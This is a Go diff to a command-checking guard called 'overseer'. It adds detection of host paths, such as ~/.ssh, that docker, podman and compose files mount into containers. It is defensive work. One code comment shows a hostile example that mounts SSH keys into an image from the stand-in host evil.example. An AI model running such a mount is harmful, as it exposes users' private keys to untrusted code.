@@ -7,6 +7,7 @@ import (
 
 	"github.com/overseer-dev/overseer/internal/action"
 	"github.com/overseer-dev/overseer/internal/guard"
+	"go.yaml.in/yaml/v3"
 	"mvdan.cc/sh/v3/syntax"
 )
 
@@ -20,6 +21,12 @@ func registerForeign() {
 	handlers["parallel"] = (*analyzer).parallelCmd
 	for _, n := range []string{"docker", "podman", "nerdctl"} {
 		handlers[n] = (*analyzer).containerCmd
+	}
+	for _, n := range []string{"docker-compose", "podman-compose"} {
+		handlers[n] = func(a *analyzer, s *segCtx) bool {
+			a.composeMounts(s.name, s.args)
+			return false
+		}
 	}
 	for _, n := range []string{"remove-item", "ri", "rd", "del", "erase"} {
 		handlers[n] = (*analyzer).winDeleteCmd
@@ -214,6 +221,10 @@ func (a *analyzer) containerCmd(s *segCtx) bool {
 	}
 	sub := args[j].val
 	j++
+	if sub == "compose" {
+		a.composeMounts(s.name+" compose", args[j:])
+		return false
+	}
 	if sub == "container" && j < len(args) {
 		sub = args[j].val
 		j++
@@ -225,7 +236,7 @@ func (a *analyzer) containerCmd(s *segCtx) bool {
 	var entry []arg
 	workdir := ""
 	addMount := func(src, dst string, ro bool) {
-		if src == "" || dst == "" || ro {
+		if src == "" || dst == "" {
 			return
 		}
 		if !strings.HasPrefix(src, "/") && !strings.HasPrefix(src, "~") && !strings.HasPrefix(src, ".") {
@@ -233,6 +244,10 @@ func (a *analyzer) containerCmd(s *segCtx) bool {
 		}
 		host, known := a.abs(src)
 		if !known {
+			return
+		}
+		a.mountRead(src)
+		if ro {
 			return
 		}
 		ctx.mounts = append(ctx.mounts, mount{target: path.Clean(dst), source: host})
@@ -591,4 +606,147 @@ func tclCommands(src string) [][]string {
 		out = append(out, cmd)
 	}
 	return out
+}
+
+// mountRead records a host path mounted into a container as read, with
+// what is below it: the container's code — an image's, which the guard
+// does not see — reads it, and may send it anywhere (docker run -v
+// ~/.ssh:/k evil.example/img was confirm, and no secret read).
+func (a *analyzer) mountRead(src string) {
+	a.candidate(arg{val: src}, inRead, true)
+}
+
+// maxComposeFile is the largest compose file read.
+const maxComposeFile = 256 << 10
+
+// composeFiles are the files docker compose reads when -f names none.
+var composeFiles = []string{"compose.yaml", "compose.yml", "docker-compose.yml", "docker-compose.yaml",
+	"compose.override.yaml", "compose.override.yml", "docker-compose.override.yml", "docker-compose.override.yaml"}
+
+// composeMounts judges the host paths the services of a compose file
+// mount (volumes: ["~/.ssh:/k"], or type: bind with a source) when
+// compose starts them: each is read, as docker run -v's. The compose file
+// is data an earlier action may have written; it is read as it is on disk.
+// A file that cannot be read, or a source computed from a variable other
+// than HOME, reaches a person.
+func (a *analyzer) composeMounts(name string, args []arg) {
+	var files []string
+	dir := a.cwd
+	sub := ""
+	for j := 0; j < len(args); j++ {
+		x := args[j]
+		if x.dyn {
+			return
+		}
+		v := x.val
+		if !strings.HasPrefix(v, "-") {
+			sub = v
+			break
+		}
+		n, val, eq := strings.Cut(v, "=")
+		switch n {
+		case "-f", "--file", "--project-directory", "-p", "--project-name", "--env-file", "--profile", "--ansi", "--progress", "--parallel":
+			if !eq {
+				if j+1 >= len(args) {
+					return
+				}
+				j++
+				val = args[j].val
+				if args[j].dyn && (n == "-f" || n == "--file" || n == "--project-directory") {
+					a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
+						Message: name + " reads a compose file computed at run time: " + val})
+					return
+				}
+			}
+			switch n {
+			case "-f", "--file":
+				files = append(files, val)
+			case "--project-directory":
+				if p, ok := a.abs(val); ok {
+					dir = a.expandHome(p)
+				}
+			}
+		}
+	}
+	switch sub {
+	case "up", "run", "create", "start", "restart", "watch":
+	default:
+		return
+	}
+	if !a.cwdKnown {
+		return
+	}
+	if len(files) == 0 {
+		for _, f := range composeFiles {
+			if a.exists(path.Join(dir, f)) {
+				files = append(files, path.Join(dir, f))
+			}
+		}
+	}
+	for _, f := range files {
+		p, ok := a.abs(f)
+		if !ok {
+			continue
+		}
+		p = a.expandHome(p)
+		b, ok := a.readRegular(strings.TrimPrefix(p, "/"), maxComposeFile)
+		if !ok {
+			a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
+				Message: name + " starts the services of " + p + ", which could not be read to see what they mount"})
+			continue
+		}
+		var doc struct {
+			Services map[string]struct {
+				Volumes []any `yaml:"volumes"`
+			} `yaml:"services"`
+		}
+		if yaml.Unmarshal(b, &doc) != nil {
+			a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
+				Message: name + " starts the services of " + p + ", which could not be parsed to see what they mount"})
+			continue
+		}
+		base := path.Dir(p)
+		for _, svc := range doc.Services {
+			for _, v := range svc.Volumes {
+				src := ""
+				switch v := v.(type) {
+				case string:
+					parts := strings.Split(v, ":")
+					if len(parts) >= 2 {
+						src = parts[0]
+					}
+				case map[string]any:
+					if t, _ := v["type"].(string); t == "bind" {
+						src, _ = v["source"].(string)
+					}
+				}
+				if src == "" {
+					continue
+				}
+				for _, h := range []string{"${HOME}", "$HOME"} {
+					if rest, ok := strings.CutPrefix(src, h); ok {
+						src = "~" + rest
+					}
+				}
+				if strings.Contains(src, "$") {
+					a.add(guard.Finding{Check: "shell.container-mount", Level: action.Confirm,
+						Message: name + " mounts a host path computed at run time: " + src})
+					continue
+				}
+				if !strings.HasPrefix(src, "/") && !strings.HasPrefix(src, "~") && !strings.HasPrefix(src, ".") {
+					continue // a named volume
+				}
+				if strings.HasPrefix(src, ".") {
+					src = path.Join(base, src) // relative to the compose file
+				}
+				a.mountRead(src)
+				if h, ok := a.abs(src); ok {
+					if d := a.danger(a.expandHome(h)); d != dangerNone {
+						a.add(guard.Finding{Check: "shell.container-mount", Level: action.Approve, Hard: true,
+							Message: name + " gives a container " + d.describe(a.expandHome(h)) + " to write (" + p + ")"})
+					}
+				}
+			}
+		}
+	}
 }
